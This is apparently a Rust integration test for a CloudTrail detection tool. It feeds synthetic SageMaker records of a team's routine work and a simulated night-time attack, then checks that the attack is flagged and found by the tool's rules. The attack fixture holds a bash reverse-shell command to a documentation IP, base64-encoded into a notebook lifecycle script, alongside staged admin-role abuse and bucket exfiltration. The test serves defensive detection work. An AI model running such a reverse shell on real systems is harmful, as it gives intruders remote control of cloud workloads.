//! `sagetrail learn` on a real OpenSearch: what a team does every day is suggested, what an attacker did is flagged,
//! and the rules find the attacker once the suggestions are taken.

use std::collections::BTreeSet;
use std::process::{Command, Output};

use serde_json::{Value, json};
use time::format_description::well_known::Rfc3339;
use time::{Duration, OffsetDateTime};

use crate::support::Stack;
use crate::support::scene::Scene;
use crate::support::story;

const ACCOUNT: &str = "111122223333";
const PARTNER: &str = "444455556666";
const ATTACKER: &str = "999988887777";
const OFFICE: [&str; 2] = ["203.0.113.10", "203.0.113.11"];
const BROWSER: &str =
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36";
const PROGRAM: &str =
    "Boto3/1.42.3 md/Botocore#1.42.3 ua/2.1 os/linux#6.1.158 lang/python#3.11.13 Botocore/1.42.3";
/// Days on which the team works.
const DAYS: i64 = 8;

/// Who calls, from where and with what.
#[derive(Clone, Copy)]
struct Caller<'c> {
    role: &'c str,
    session: &'c str,
    address: &'c str,
    agent: &'c str,
}

/// A record of an hour of the day so many days ago.
#[expect(clippy::needless_pass_by_value, reason = "each call writes it in place")]
fn record(
    (day, hour): (i64, i64),
    caller: Caller<'_>,
    (service, name): (&str, &str),
    parameters: Value,
) -> Value {
    let at = OffsetDateTime::now_utc().replace_time(time::Time::MIDNIGHT) - Duration::days(day)
        + Duration::hours(hour);
    let Caller { role, session, address, agent } = caller;
    json!({
        "eventVersion": "1.11", "eventID": format!("{day:08}-{hour:04}-4000-8000-{:012x}", name.len() * 1_000 + session.len()),
        "eventTime": at.format(&Rfc3339).unwrap(), "eventSource": format!("{service}.amazonaws.com"), "eventName": name,
        "awsRegion": "eu-central-1", "sourceIPAddress": address, "userAgent": agent,
        "userIdentity": {
            "type": "AssumedRole", "principalId": format!("AROA{}:{session}", role.to_uppercase()),
            "arn": format!("arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}"), "accountId": ACCOUNT,
            "sessionContext": {"sessionIssuer": {"type": "Role", "userName": role, "accountId": ACCOUNT,
                "principalId": format!("AROA{}", role.to_uppercase()), "arn": format!("arn:aws:iam::{ACCOUNT}:role/{role}")}}
        },
        "resources": parameters["roleArn"].as_str().filter(|_| service == "sts").map(|role| json!([{"ARN": role,
            "accountId": role.split(':').nth(4), "type": "AWS::IAM::Role"}])),
        "requestParameters": parameters, "responseElements": {}, "readOnly": false, "managementEvent": true,
        "eventType": "AwsApiCall", "eventCategory": "Management", "recipientAccountId": ACCOUNT
    })
}

fn training(job: &str, image: &str, bucket: &str, role: &str) -> Value {
    json!({
        "trainingJobName": job, "roleArn": format!("arn:aws:iam::{ACCOUNT}:role/{role}"),
        "algorithmSpecification": {"trainingInputMode": "File",
            "trainingImage": format!("{image}.dkr.ecr.eu-central-1.amazonaws.com/train:1")},
        "outputDataConfig": {"s3OutputPath": format!("s3://{bucket}/out/")},
        "resourceConfig": {"instanceType": "ml.m5.xlarge", "instanceCount": 1, "volumeSizeInGB": 30}
    })
}

fn team() -> Vec<Value> {
    let mut records = Vec::new();
    for day in 1..=DAYS {
        for (session, address) in ["alice", "robert"].into_iter().zip(OFFICE) {
            let person = Caller { role: "Scientist", session, address, agent: BROWSER };
            let open = json!({"notebookInstanceName": session});
            records.push(record((day, 8), person, ("sagemaker", "CreatePresignedNotebookInstanceUrl"), open));
            let job = training(&format!("{session}-{day}"), PARTNER, "team-models", "Execution");
            records.push(record((day, 9), person, ("sagemaker", "CreateTrainingJob"), job));
            let notebook = json!({"notebookInstanceName": session, "instanceType": "ml.t3.medium",
                "roleArn": format!("arn:aws:iam::{ACCOUNT}:role/Execution")});
            records.push(record((day, 10), person, ("sagemaker", "CreateNotebookInstance"), notebook));
        }
        let notebook =
            Caller { role: "Execution", session: "SageMaker", address: "192.0.2.40", agent: PROGRAM };
        records.push(record(
            (day, 11),
            notebook,
            ("sagemaker", "DescribeTrainingJob"),
            json!({"trainingJobName": "a"}),
        ));
        let elsewhere =
            json!({"roleArn": format!("arn:aws:iam::{PARTNER}:role/read"), "roleSessionName": "s"});
        records.push(record((day, 12), notebook, ("sts", "AssumeRole"), elsewhere));
    }
    records
}

/// What somebody does in one night who has a key of the team.
fn attack() -> Vec<Value> {
    let thief =
        Caller { role: "Scientist", session: "thief-of-keys", address: "198.51.100.66", agent: PROGRAM };
    let script = "bash -i >& /dev/tcp/198.51.100.66/4444 0>&1";
    let script = base64::Engine::encode(&base64::prelude::BASE64_STANDARD, script);
    let stolen = Caller { role: "Execution", session: "SageMaker", ..thief };
    vec![
        record(
            (3, 1),
            thief,
            ("sagemaker", "CreatePresignedNotebookInstanceUrl"),
            json!({"notebookInstanceName": "alice"}),
        ),
        record(
            (3, 2),
            thief,
            ("sagemaker", "CreateNotebookInstanceLifecycleConfig"),
            json!({"notebookInstanceLifecycleConfigName": "x", "onStart": [{"content": script}]}),
        ),
        record(
            (3, 3),
            thief,
            ("sagemaker", "CreateTrainingJob"),
            training("x", ATTACKER, "exfiltrated-models", "Admin"),
        ),
        record(
            (3, 4),
            thief,
            ("sagemaker", "CreateNotebookInstance"),
            json!({"notebookInstanceName": "x",
            "instanceType": "ml.p4d.24xlarge", "roleArn": format!("arn:aws:iam::{ACCOUNT}:role/Admin")}),
        ),
        record(
            (3, 5),
            stolen,
            ("sts", "AssumeRole"),
            json!({"roleArn": format!("arn:aws:iam::{ATTACKER}:role/take"), "roleSessionName": "s"}),
        ),
        record((3, 6), stolen, ("sagemaker", "DescribeTrainingJob"), json!({"trainingJobName": "a"})),
    ]
}

fn learn(scene: &Scene, arguments: &[&str], settings: &[(&str, &str)]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_sagetrail"));
    command.arg("learn").args(arguments);
    let stack = Stack::running().expect("the scene is set");
    command.env("SAGETRAIL__SINK__URL", stack.opensearch).env("SAGETRAIL__SINK__INDEX_PREFIX", scene.name);
    command.envs(settings.iter().copied()).output().unwrap()
}

/// The values of placeholders in a list of the report.
fn values(report: &Value, placeholders: &[&str], list: &str) -> BTreeSet<String> {
    let named = |learned: &&Value| placeholders.iter().any(|name| learned["placeholder"] == *name);
    let learned = report["placeholders"].as_array().unwrap().iter().filter(named);
    let listed = learned.flat_map(|learned| learned[list].as_array().unwrap());
    listed.map(|value| value["value"].as_str().unwrap().to_owned()).collect()
}

#[tokio::test]
async fn everyday_work_is_suggested_and_an_attack_is_flagged_and_found_with_the_suggestions() {
    let documents = story::documents(&[team(), attack()].concat(), None);
    let Some(scene) = Scene::set("learn", &documents).await else { return };
    let output = learn(&scene, &["--json"], &[]);
    let text = learn(&scene, &[], &[]);
    let known =
        learn(&scene, &["--json"], &[("SAGETRAIL__RULES__PLACEHOLDERS", r#"{trusted_buckets=["team-*"]}"#)]);
    scene.remove().await;
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();

    let networks = &["allowed_networks", "people_networks", "compute_networks"][..];
    let (execution, admin) =
        (format!("arn:aws:iam::{ACCOUNT}:role/Execution"), format!("arn:aws:iam::{ACCOUNT}:role/Admin"));
    for (placeholders, suggested, flagged) in [
        (networks, &["203.0.113.10/31", "192.0.2.40/32"][..], &["198.51.100.66/32"][..]),
        (&["trusted_accounts"], &[ACCOUNT, PARTNER], &[ATTACKER]),
        (&["trusted_ecr_accounts"], &[PARTNER], &[ATTACKER]),
        (&["trusted_buckets"], &["team-models"], &["exfiltrated-models"]),
        (&["approved_roles"], &[&execution], &[&admin]),
        (&["notebook_instance_types"], &["ml.t3.medium"], &["ml.p4d.24xlarge"]),
        (&["studio_instance_types", "package_mirrors"], &[], &[]),
    ] {
        let expected =
            |values: &[&str]| values.iter().map(|&value| value.to_owned()).collect::<BTreeSet<_>>();
        assert_eq!(
            values(&report, placeholders, "suggested"),
            expected(suggested),
            "{placeholders:?}: {report:#}"
        );
        assert_eq!(
            values(&report, placeholders, "flagged"),
            expected(flagged),
            "{placeholders:?}: {report:#}"
        );
    }
    let buckets = report["placeholders"]
        .as_array()
        .unwrap()
        .iter()
        .find(|it| it["placeholder"] == "trusted_buckets")
        .unwrap();
    let evidence = &buckets["suggested"][0]["evidence"];
    assert_eq!(
        (&evidence["records"], &evidence["days"], &evidence["principals"]),
        (&json!(2 * DAYS), &json!(DAYS), &json!(2))
    );
    assert_eq!(buckets["flagged"][0]["reasons"], json!(["seen_once", "worrying_findings"]));

    let findings = &buckets["flagged"][0]["evidence"]["findings"];
    assert_eq!(
        *findings,
        json!(["Administrator Role Given To SageMaker Compute"]),
        "and nothing of the posture"
    );

    // The rules that were silent find the attacker and nobody else.
    let with_suggestions = |report: &Value, placeholder: &str| -> u64 {
        let rules = report["evaluated"]["rules"].as_array().unwrap().iter();
        let uses = |rule: &&Value| rule["placeholders"].as_array().unwrap().contains(&json!(placeholder));
        rules.filter(uses).filter_map(|rule| rule["with_suggestions"].as_u64()).sum()
    };
    assert_eq!(with_suggestions(&report, "trusted_buckets"), 1, "{report:#}");
    assert_eq!(with_suggestions(&report, "trusted_ecr_accounts"), 1, "{report:#}");
    assert_eq!(report["evaluated"]["documents"], json!(documents.len()));

    let text = String::from_utf8(text.stdout).unwrap();
    for part in [
        "LOOK AT exfiltrated-models: in one record only",
        "\"team-models\",",
        "16 records on 8 days by 2 principals",
    ] {
        assert!(text.contains(part), "{part}\n{text}");
    }
    let snippet = text.split("into the configuration:\n").nth(1).unwrap();
    toml::from_str::<sagetrail::config::Config>(snippet).unwrap();

    let known: Value = serde_json::from_slice(&known.stdout).unwrap();
    assert_eq!(values(&known, &["trusted_buckets"], "suggested"), BTreeSet::new(), "it is configured");
}
